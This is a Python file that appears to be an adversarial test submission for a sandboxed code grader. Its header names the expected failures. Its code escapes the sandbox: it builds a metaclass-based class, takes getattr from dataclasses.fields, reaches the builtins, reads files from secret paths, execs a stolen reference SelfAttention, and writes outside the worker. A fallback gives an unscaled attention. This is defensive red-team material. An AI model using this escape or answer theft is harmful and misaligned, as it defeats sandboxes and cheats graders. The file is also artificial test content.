# attack: numbers.ABCMeta called with three arguments builds a class from a namespace of run-time strings; dataclasses.fields then hands back getattr(cls, "__getattribute__") as a field's default, a lookup by string: a function's globals, the builtins, then read the reference and write outside -> fail (unsafe_code)
# runtime: fail (no_scaling)
# Invariant: no metaclass is reachable (only the numeric and collection ABCs themselves), dataclasses.fields is
# out, type() is only ever type(x) (red-team round 5 of issue 19); with arbitrary code anyway, nothing secret is
# read and nothing written outside the worker.
import dataclasses
import numbers

import torch
import torch.nn as nn

SECRETS = "@SECRETS@".split("|")  # filled in by tests/test_adversarial.py
TARGETS = "@TARGETS@".split("|")
U = "_" * 2


def dn(s):
    return U + s + U


C = numbers.ABCMeta("C", (object,), {dn("annotations"): {dn("getattribute"): object}})
GA = dataclasses.fields(dataclasses.dataclass(C))[0].default


def probe():
    pass


B = GA(probe, dn("globals"))[dn("builtins")]
if not isinstance(B, dict):
    B = GA(B, dn("dict"))
stolen = {}
for path in SECRETS:
    try:
        with B["open"](path) as f:
            text = f.read()
    except OSError:
        continue
    if "class SelfAttention" in text:
        B["exec"](text, stolen)
        break
for target in TARGETS + ["/tmp/@MARKER@"]:
    try:
        with B["open"](target, "w") as f:
            f.write("written by a submission")
    except OSError:
        pass

if "SelfAttention" in stolen:
    SelfAttention = stolen["SelfAttention"]
else:
    class SelfAttention(nn.Module):  # what is left: attention without its scaling
        def __init__(self, d_in, d_out, qkv_bias=False):
            super().__init__()
            self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
            self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
            self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)

        def forward(self, x):
            att = self.W_query(x) @ self.W_key(x).transpose(-2, -1)
            return torch.softmax(att, dim=-1) @ self.W_value(x)
